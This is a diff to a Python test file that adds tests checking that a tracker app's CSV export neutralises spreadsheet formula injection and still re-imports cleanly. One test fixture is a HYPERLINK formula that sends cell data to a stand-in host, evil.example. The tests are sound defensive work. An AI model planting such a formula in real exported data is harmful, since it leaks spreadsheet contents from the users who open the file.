@@ -4,16 +4,30 @@ from __future__ import annotations
 
 import csv
 import io
+import itertools
 import subprocess
 import sys
+from datetime import UTC, datetime
 from pathlib import Path
 
+import pytest
 from flask.testing import FlaskClient
 from lxml import etree
 from sqlalchemy import func, select
 
-from tests.factories import add_article, auth, check_now, command_env, make_token, post_form, set_up_admin
+from tests.factories import (
+    add_article,
+    article_page,
+    auth,
+    check_now,
+    command_env,
+    make_token,
+    post_form,
+    set_up_admin,
+    story,
+)
 from tests.pageserver import PageServer
+from tracker.listfiles import FORMULA_STARTS, WatchedArticle, read_list, write_csv
 from tracker.models import Article, Subscription
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -262,3 +276,44 @@ def test_the_articles_page_shows_the_readers_tags_and_note_escaped(client: Flask
     page = client.get("/").get_data(as_text=True)
     assert '<div class="note">&lt;b&gt;check the footnotes&lt;/b&gt;</div>' in page
     assert ">budget</a>" in page
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+
+
+def test_csv_export_neutralises_formulas_and_still_imports(client: FlaskClient, runtime, site: PageServer):
+    """A page's title and a note that a spreadsheet would run come out as text (a leading ')."""
+    token = make_token(runtime)
+    article = add_article(client, token, site.serve("/f", article_page(FORMULA_TITLE, story())))
+    check_now(client, token, article["id"])
+    follow(client, token, article["id"], note="=1+1", tags=["local"])
+
+    exported = client.get("/api/v1/watchlist?format=csv", headers=auth(token)).get_data(as_text=True)
+    (row,) = csv.DictReader(io.StringIO(exported))
+    assert (row["title"], row["note"], row["tags"]) == ("'" + FORMULA_TITLE, "'=1+1", "local")
+    other = make_token(runtime, "other")
+    again = client.post(
+        "/api/v1/import", data=exported.encode(), content_type="text/csv", headers=auth(other)
+    ).get_json()
+    assert [item["article_id"] for item in again["already_tracked"]] == [article["id"]]
+    assert listed(client, other, "tag=local") == [row["url"]]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_csv_cell_starts_with_a_formula_character_and_the_guard_reads_back(start: str):
+    """Every cell of every CSV written (the API's and the command line's export share write_csv);
+    negative numbers too, as OWASP advises. The reader takes off the guard it finds on url and tags."""
+    row = WatchedArticle(
+        url=f"{start}https://example.com/a",
+        title=f"{start}5 title",
+        tags=(f"{start}tag", "two"),
+        note=f"{start}note",
+        added_at=datetime(2026, 3, 5, tzinfo=UTC),
+    )
+    written = write_csv([row])
+    cells = next(itertools.islice(csv.reader(io.StringIO(written)), 1, None))
+    assert all(not cell.startswith(FORMULA_STARTS) for cell in cells)
+    assert cells[1:4] == [f"'{start}5 title", f"'{start}tag;two", f"'{start}note"]
+    lines, bad = read_list(written, "csv")
+    url, tag = f"{start}https://example.com/a".strip(), f"{start}tag".strip()  # the reader trims cells
+    assert (lines[0].url, lines[0].tags, bad) == (url, (tag, "two"), [])
